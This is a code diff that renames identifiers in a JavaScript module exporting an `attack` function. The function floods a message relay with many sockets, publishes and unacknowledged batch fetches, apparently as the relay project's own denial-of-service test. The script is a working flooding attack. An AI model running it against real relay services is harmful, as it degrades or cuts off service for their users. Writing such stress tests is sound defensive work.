@@ -1,5 +1,5 @@
 import { setTimeout as wait } from 'node:timers/promises';
-import { ask, createKey, newTopic, openSocket } from '../relayClients.mjs';
+import { request, createKey, newTopic, openSocket } from '../relayClients.mjs';
 
 const localAddress = '127.0.0.2';
 /** As many as one request may name. */
@@ -14,7 +14,7 @@ const readers = 50;
 /**
  * A socket whose requests are answered one after the other; what it is sent it reads, and acknowledges nothing of it.
  */
-async function openAsker(relayUrl) {
+async function openRequester(relayUrl) {
   const waiting = new Map();
   const onText = (text) => {
     const [, id] = /^\{"id":"?(\d+)"?,"jsonrpc":"2\.0","(?:result|error)"/.exec(text) ?? [];
@@ -25,8 +25,8 @@ async function openAsker(relayUrl) {
   const socket = await openSocket(relayUrl, { key: createKey(), onText, onEnd: endAll, localAddress });
   if (socket === undefined) return undefined;
   const isOpen = () => socket.readyState === socket.OPEN;
-  const request = (method, params) => new Promise((resolve) => waiting.set(ask(socket, method, params), resolve));
-  return { isOpen, request, close: () => socket.terminate() };
+  const callRelay = (method, params) => new Promise((resolve) => waiting.set(request(socket, method, params), resolve));
+  return { isOpen, callRelay, close: () => socket.terminate() };
 }
 
 /**
@@ -35,12 +35,12 @@ async function openAsker(relayUrl) {
  */
 export async function attack({ relayUrl, seconds }) {
   const untilMs = Date.now() + seconds * 1_000;
-  const counts = { written: 0, asked: 0, refusedReaders: 0 };
+  const counts = { written: 0, requested: 0, refusedReaders: 0 };
   const topics = Array.from({ length: Math.min(topicsMax, seconds * topicsPerSecond) }, newTopic);
   const open = new Set();
   const isLate = () => Date.now() >= untilMs + patienceMs;
   const join = async () => {
-    const client = isLate() ? undefined : await openAsker(relayUrl);
+    const client = isLate() ? undefined : await openRequester(relayUrl);
     if (client) open.add(client);
     return client;
   };
@@ -51,17 +51,17 @@ export async function attack({ relayUrl, seconds }) {
     while (writer?.isOpen() && counts.written < topics.length) {
       const topic = topics[counts.written];
       const message = String((counts.written += 1)).padEnd(messageBytes, '=');
-      await writer.request('irn_publish', { topic, message, ttl: 300, tag: 1108 });
+      await writer.callRelay('irn_publish', { topic, message, ttl: 300, tag: 1108 });
     }
     writer?.close();
   };
   const read = async () => {
     const reader = await join();
     if (reader === undefined) counts.refusedReaders += 1;
-    void reader?.request('irn_batchSubscribe', { topics });
+    void reader?.callRelay('irn_batchSubscribe', { topics });
     while (reader?.isOpen()) {
-      await reader.request('irn_batchFetchMessages', { topics });
-      counts.asked += 1;
+      await reader.callRelay('irn_batchFetchMessages', { topics });
+      counts.requested += 1;
       if (Date.now() >= untilMs) reader.close();
       else await wait(100);
     }
